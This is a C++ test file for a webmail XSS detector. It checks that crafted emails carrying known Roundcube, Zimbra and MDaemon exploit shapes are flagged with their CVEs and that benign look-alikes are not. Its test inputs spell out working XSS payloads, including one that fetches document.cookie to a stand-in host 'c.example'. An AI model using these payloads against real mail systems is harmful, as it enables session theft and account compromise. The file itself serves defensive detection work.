// webmail_xss: each exploit shape of threat-notes 3.2 in the carrier it arrives in (HTML body,
// plain-text body, calendar part, link), reported with its CVE; generic shapes as markers; and
// the ordinary look-alikes (an SVG logo with an animation, Outlook's conditional comments, a
// plain-text mail with [1] link references, a Google Calendar HTML description, a link to the
// organisation's own site) silent.
#include <gtest/gtest.h>

#include "analyzers/analyzer_harness.h"

namespace vigie::analyzers {
namespace {

Config organisation_config() {
  Config config;
  config.organisation.name = "Ministère de l'Exemple";
  config.organisation.protected_domains = {"ministere-exemple.fr"};
  return config;
}

const AnalyzerHarness& harness() {
  static const AnalyzerHarness h("webmail_xss", organisation_config());
  return h;
}

std::string mail(std::string_view type, std::string_view body) {
  return "From: news@outside.example\nTo: agent@ministere-exemple.fr\nSubject: Actualités\n"
         "Content-Type: " + std::string(type) + "; charset=utf-8\n\n" + std::string(body) + "\n";
}

std::string with_calendar(std::string_view calendar) {
  return "From: a@outside.example\nTo: agent@ministere-exemple.fr\nSubject: Invitation\n"
         "Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nInvitation.\n"
         "--b\nContent-Type: text/calendar; method=REQUEST; charset=utf-8\n\n" + std::string(calendar) + "\n--b--\n";
}

std::string calendar(std::string_view extra) {
  return "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1@x\r\n"
         "DTSTART:20250601T090000Z\r\nSUMMARY:Point\r\n" + std::string(extra) + "END:VEVENT\r\nEND:VCALENDAR\r\n";
}

// The CVE evidence of a WEBMAIL_XSS finding, "" when there is none.
std::string cve_of(const std::vector<Finding>& findings) {
  const Finding* f = AnalyzerHarness::find(findings, "WEBMAIL_XSS");
  if (f == nullptr) return {};
  for (const Evidence& e : f->evidence) {
    if (e.field == "cve") return e.value;
  }
  return "(no cve evidence)";
}

bool fires(const std::vector<Finding>& findings) {
  return AnalyzerHarness::find(findings, "WEBMAIL_XSS") != nullptr ||
         AnalyzerHarness::find(findings, "WEBMAIL_XSS_MARKER") != nullptr;
}

TEST(WebmailXssTest, SvgAnimationSettingAPaddedHrefIsRoundcubeCve202437383) {
  const auto findings = harness().analyze(mail(
      "text/html", "<p>Bonjour</p><svg><animate attributeName=\"href \" values=\"javascript:alert(document.cookie)\" "
                   "begin=\"0s\" dur=\"1s\"/><a><text x=\"20\" y=\"20\">Lire</text></a></svg>"));
  EXPECT_EQ(cve_of(findings).rfind("CVE-2024-37383 (Roundcube", 0), 0u) << cve_of(findings);
}

TEST(WebmailXssTest, SvgAnimationToJavascriptWithoutPaddingIsAMarker) {
  const auto findings = harness().analyze(
      mail("text/html", "<svg><a><SET attributeName=\"xlink:href\" to=\"javascript:alert(1)\"/><text>x</text></a></svg>"));
  EXPECT_EQ(AnalyzerHarness::find(findings, "WEBMAIL_XSS"), nullptr);
  EXPECT_NE(AnalyzerHarness::find(findings, "WEBMAIL_XSS_MARKER"), nullptr);
}

TEST(WebmailXssTest, SvgUseOfADataUrlWithAMangledSchemeIsRoundcubeCve20235631) {
  const auto findings = harness().analyze(
      mail("text/html", "<svg><use href=\"Data:image/svg+xml;\tbase64,PHN2ZyBpZD0neCc+PC9zdmc+#x\"/></svg>"));
  EXPECT_EQ(cve_of(findings).rfind("CVE-2023-5631", 0), 0u) << cve_of(findings);
  EXPECT_EQ(AnalyzerHarness::find(findings, "WEBMAIL_XSS")->confidence, 1.0);
}

TEST(WebmailXssTest, ATitleClosingNoembedIsMdaemonCve202411182) {
  const auto findings = harness().analyze(
      mail("text/html", "<noembed><p title=\"</noembed><img src=x onerror=eval(atob('YWxlcnQoMSk='))>\"></p></noembed>"));
  EXPECT_EQ(cve_of(findings).rfind("CVE-2024-11182 (MDaemon", 0), 0u) << cve_of(findings);
}

TEST(WebmailXssTest, HandlersHiddenInCommentsAndImgOnerrorAreMarkers) {
  const auto hidden = harness().analyze(mail("text/html", "<p>x</p><!-- <img src=x onerror=alert(1)> -->"));
  EXPECT_EQ(AnalyzerHarness::find(hidden, "WEBMAIL_XSS"), nullptr);
  EXPECT_NE(AnalyzerHarness::find(hidden, "WEBMAIL_XSS_MARKER"), nullptr);
  const auto horde = harness().analyze(mail("text/html", "<p>Photo</p><img src=\"x\" onerror=\"fetch('//c.example/'+document.cookie)\">"));
  EXPECT_NE(AnalyzerHarness::find(horde, "WEBMAIL_XSS_MARKER"), nullptr);
}

TEST(WebmailXssTest, ScriptInInlineSvgAndSlashSplitAttributesAreMarkers) {
  EXPECT_NE(AnalyzerHarness::find(harness().analyze(mail("text/html", "<p>x</p><svg/onload=alert(1)>")), "WEBMAIL_XSS_MARKER"),
            nullptr);
  EXPECT_NE(AnalyzerHarness::find(harness().analyze(mail("text/html", "<svg><script>alert(1)</script></svg>")), "WEBMAIL_XSS_MARKER"),
            nullptr);
  EXPECT_NE(AnalyzerHarness::find(harness().analyze(mail("text/html", "<img/src=x/onerror=alert(1)>")), "WEBMAIL_XSS_MARKER"),
            nullptr);
}

// An empty <svg></svg> before the hostile one: its body is an empty view, searched without reading
// (the fuzz seed regression-svg-empty-body.eml replays it under UBSan).
TEST(WebmailXssTest, EmptyInlineSvgIsSilentAndTheNextOneIsStillRead) {
  EXPECT_FALSE(fires(harness().analyze(mail("text/html", "<p>x</p><svg></svg><svg>x</svg>"))));
  EXPECT_NE(AnalyzerHarness::find(harness().analyze(mail("text/html", "<svg></svg><svg><script>alert(1)</script></svg>")),
                                  "WEBMAIL_XSS_MARKER"),
            nullptr);
}

TEST(WebmailXssTest, PlainTextLinkLabelHoldingATagIsRoundcubeCve202343770) {
  const auto findings = harness().analyze(
      mail("text/plain", "Lire l'article :\n[<img src=x onerror=alert(1)>] https://news.example/article\n"));
  EXPECT_EQ(cve_of(findings).rfind("CVE-2023-43770", 0), 0u) << cve_of(findings);
}

TEST(WebmailXssTest, ScriptGluedToAPlainTextLinkIsRoundcubeCve202035730) {
  const auto findings = harness().analyze(
      mail("text/plain", "Voir https://news.example/a\"><script>alert(document.domain)</script> pour la suite.\n"));
  EXPECT_EQ(cve_of(findings).rfind("CVE-2020-35730", 0), 0u) << cve_of(findings);
}

TEST(WebmailXssTest, MarkupInZimbraIntendedForIsCve202427443) {
  const auto findings = harness().analyze(with_calendar(calendar(
      "X-Zimbra-Calendar-Intended-For: agent@ministere-exemple.fr\"><img src=x onerror=\"eval(atob('YWxlcnQoMSk='))\">\r\n")));
  EXPECT_EQ(cve_of(findings).rfind("CVE-2024-27443 (Zimbra", 0), 0u) << cve_of(findings);
}

TEST(WebmailXssTest, ScriptInACalendarDescriptionIsZimbraCve202527915) {
  const auto findings = harness().analyze(with_calendar(calendar(
      "X-ALT-DESC;FMTTYPE=text/html:<html><body><details open ontoggle=\"eval(atob('YQ=='))\">\r\n"
      " <summary>Ordre du jour</summary></details></body></html>\r\n")));
  EXPECT_EQ(cve_of(findings).rfind("CVE-2025-27915", 0), 0u) << cve_of(findings);
}

TEST(WebmailXssTest, ALinkToTheOrganisationsOwnHostWithScriptIsZimbraCve202227926) {
  const auto findings = harness().analyze(mail(
      "text/html", "<a href=\"https://webmail.ministere-exemple.fr/zimbra/h/search?action=1&amp;st=%22%3E%3Cscript%3E"
                   "alert(1)%3C%2Fscript%3E\">Votre boîte</a>"));
  EXPECT_EQ(cve_of(findings).rfind("CVE-2022-27926", 0), 0u) << cve_of(findings);
}

// The same shape on a Roundcube page is not Zimbra's CVE: a marker, naming no CVE.
TEST(WebmailXssTest, ALinkToTheOrganisationsOwnRoundcubeWithScriptIsAMarkerNotZimbra) {
  const auto findings = harness().analyze(mail(
      "text/html", "<a href=\"https://webmail.ministere-exemple.fr/?_task=settings&amp;_action=plugin.managesieve-action"
                   "&amp;_framed=1&amp;_nav=%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E\">Vos filtres</a>"));
  EXPECT_EQ(AnalyzerHarness::find(findings, "WEBMAIL_XSS"), nullptr) << cve_of(findings);
  EXPECT_NE(AnalyzerHarness::find(findings, "WEBMAIL_XSS_MARKER"), nullptr);
}

// ---- near-misses ----

TEST(WebmailXssTest, AnSvgLogoWithAnimationIsSilent) {
  EXPECT_FALSE(fires(harness().analyze(mail(
      "text/html", "<svg width=\"40\" height=\"40\"><circle r=\"10\"><animate attributeName=\"opacity\" "
                   "values=\"0;1\" dur=\"2s\"/><set attributeName=\"fill\" to=\"red\"/></circle>"
                   "<use href=\"#logo\"/><use xlink:href=\"https://cdn.example/sprite.svg#icon\"/></svg>"))));
}

TEST(WebmailXssTest, OutlookConditionalCommentsAndStylesAreSilent) {
  EXPECT_FALSE(fires(harness().analyze(mail(
      "text/html", "<html><head><title>Lettre</title><style>p{color:red}</style><!--[if mso]><table><tr><td>"
                   "<![endif]--></head><body onload=\"init()\"><noscript><img src=\"https://t.example/p.gif\">"
                   "</noscript><p title=\"a &lt;b&gt; c\">Bonjour</p><img src=\"logo.png\" alt=\"logo\"></body></html>"))));
}

TEST(WebmailXssTest, OnerrorInsideAnImageUrlIsNoHandler) {
  // Cloudflare image resizing, common in newsletters (phishing-dev sample-2970's template).
  EXPECT_FALSE(fires(harness().analyze(mail(
      "text/html", "<img class=\"adapt-img\" src=\"https://content.example/cdn-cgi/image/fit=scale-down,onerror=redirect,"
                   "width=650/https://img.example/a.png\" alt=\"\">"))));
}

TEST(WebmailXssTest, ACommentedOutAdBlockIsSilent) {
  // hard-ham-1: a ZDNet newsletter with its advertisement block commented out.
  EXPECT_FALSE(fires(harness().analyze(mail(
      "text/html", "<!-- <td width=160><iframe src=\"http://ads.example/ifc\" height=600>\n"
                   "<script language=\"javascript\" src=\"http://ads.example/js/rgroup=27\"></script></iframe></td> -->"))));
}

TEST(WebmailXssTest, AScriptHiddenFromOldBrowsersInACommentIsSilent) {
  EXPECT_FALSE(fires(harness().analyze(mail(
      "text/html", "<script language=\"javascript\">\n<!--\ndocument.write('<img src=\"p.gif\" onload=\"track()\">');\n"
                   "//-->\n</script><p>Bonjour</p>"))));
}

TEST(WebmailXssTest, PlainTextWithLinkReferencesIsSilent) {
  EXPECT_FALSE(fires(harness().analyze(mail(
      "text/plain", "Voir [1] et [2].\n\n[1] https://example.org/a\n[2] <https://example.org/b>\n"
                    "Le code : <b>gras</b> ou if (a < b) {}\nhttps://example.org/c<br>\n"))));
}

TEST(WebmailXssTest, AGoogleCalendarHtmlDescriptionIsSilent) {
  EXPECT_FALSE(fires(harness().analyze(with_calendar(calendar(
      "DESCRIPTION:<p>Ordre du jour</p><br><a href=\"https://meet.google.com/abc-defg-hij\">Rejoindre</a>\r\n"
      "X-Zimbra-Calendar-Intended-For: agent@ministere-exemple.fr\r\n")))));
}

TEST(WebmailXssTest, ALinkToTheOwnSiteWithAnOrdinaryQueryIsSilent) {
  EXPECT_FALSE(fires(harness().analyze(
      mail("text/html", "<a href=\"https://www.ministere-exemple.fr/recherche?q=budget+2025&amp;page=2\">Recherche</a>"))));
}

}  // namespace
}  // namespace vigie::analyzers
